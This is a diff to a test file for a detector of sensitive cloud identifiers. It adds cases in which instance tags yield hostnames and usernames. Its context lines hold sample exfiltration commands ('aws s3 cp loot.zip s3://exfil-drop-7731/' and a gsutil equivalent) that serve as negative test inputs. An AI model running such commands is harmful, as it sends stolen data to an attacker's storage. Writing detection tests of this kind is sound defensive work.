@@ -31,6 +31,9 @@ SID = SidRecognizer()
      {("AWS_RESOURCE_ID", "i-0a1b2c3d4e5f67890"), ("AWS_RESOURCE_ID", "vpc-0abc1234def567890"),
       ("AWS_RESOURCE_ID", "subnet-01234567"), ("AWS_RESOURCE_ID", "sg-0fedcba9876543210"),
       ("AWS_RESOURCE_ID", "vol-0a1b2c3d")}),
+    # an instance's tags: its name is a host's, its owner a user
+    ('"tags":[{"key":"Name","value":"hb-bastion-prod"},{"key":"Owner","value":"jhansen"}]; {"Key": "CreatedBy", "Value": "m.berg"}',
+     {("HOSTNAME", "hb-bastion-prod"), ("USERNAME", "jhansen"), ("USERNAME", "m.berg")}),
     # our buckets, where the record says they are ours
     ('"requestParameters":{"bucketName":"hb-ledger-exports","key":"2024/05/ledger.csv"}',
      {("STORAGE_BUCKET", "hb-ledger-exports")}),
@@ -68,6 +71,8 @@ def test_cloud_hits(text, expected):
     "GCP project settings.json",                      # a word and a file, not a project ID
     # a bucket named only in a command or prose can be the attacker's; a reference, a variable, an empty name
     "aws s3 cp loot.zip s3://exfil-drop-7731/", "gsutil cp x gs://exfil-drop-7731", "their bucket exfil-drop-7731",
+    '{"Key": "Name", "Value": "web"}', '{"Key": "Owner", "Value": "security"}', '{"Key": "Env", "Value": "prod01"}',
+    '{"Key": "Owner", "Value": "maria.berg@x.com"}',
     'bucket_name = var.exports_bucket', 'bucketName: "${BUCKET}"', '"bucketName": ""', "bucketname=a",
     "arn:aws:s3:::${aws:username}", "79a59df9 hb-ledger-exports [06/Feb/2024:00:00:38 +0000]",
 ])
